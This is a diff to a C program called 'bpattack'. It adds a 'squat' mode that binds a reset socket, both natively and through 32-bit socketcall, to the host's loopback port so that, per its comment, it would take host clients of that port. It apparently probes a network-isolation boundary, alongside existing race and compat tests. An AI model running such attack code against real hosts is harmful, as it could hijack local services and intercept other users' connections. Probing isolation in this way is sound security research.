@@ -9,6 +9,7 @@
  *   bpattack compat IP PORT LOPORT    32-bit calls (int 0x80) on a twin
  *   bpattack race IP PORT LOPORT MS   threads swap fds and memory for MS ms
  *   bpattack works PORT               32-bit calls to namespace servers
+ *   bpattack squat IP PORT LOPORT     bind a twin to the host's 127.0.0.1
  *
  * IP:PORT is outside and refuses (so the twin fails and is reconnectable
  * by the kernel); LOPORT is a server on the host's 127.0.0.1; PORT of
@@ -270,6 +271,21 @@ static int works(int port)
 	return 0;
 }
 
+/* squat() - a twin reset by shutdown() bound to the host's loopback
+ * (native and int 0x80) would take host clients of that port */
+static int squat(const char *ip, int port, int loport)
+{
+	int t = twin(ip, port);
+	struct sockaddr_in *lo = sin_at("127.0.0.1", loport);
+
+	shutdown(t, SHUT_RDWR);
+	printf("bind: %s\n", bind(t, (void *)lo, sizeof(*lo)) < 0 ?
+	       strerrorname_np(errno) : "0");
+	printf("socketcall bind: %s\n", err(sc(SYS_BIND, (uint32_t[]){ (uint32_t)t,
+			(uint32_t)(uintptr_t)lo, sizeof(*lo) }, 3)));
+	return 0;
+}
+
 int main(int argc, char **argv)
 {
 	setvbuf(stdout, NULL, _IOLBF, 0);
@@ -285,6 +301,8 @@ int main(int argc, char **argv)
 		return compat(argv[2], atoi(argv[3]), atoi(argv[4]));
 	if (argc == 6 && !strcmp(argv[1], "race"))
 		return race(argv[2], atoi(argv[3]), atoi(argv[4]), atoi(argv[5]));
+	if (argc == 5 && !strcmp(argv[1], "squat"))
+		return squat(argv[2], atoi(argv[3]), atoi(argv[4]));
 	if (argc == 3 && !strcmp(argv[1], "works"))
 		return works(atoi(argv[2]));
 	fprintf(stderr, "usage: see the header\n");
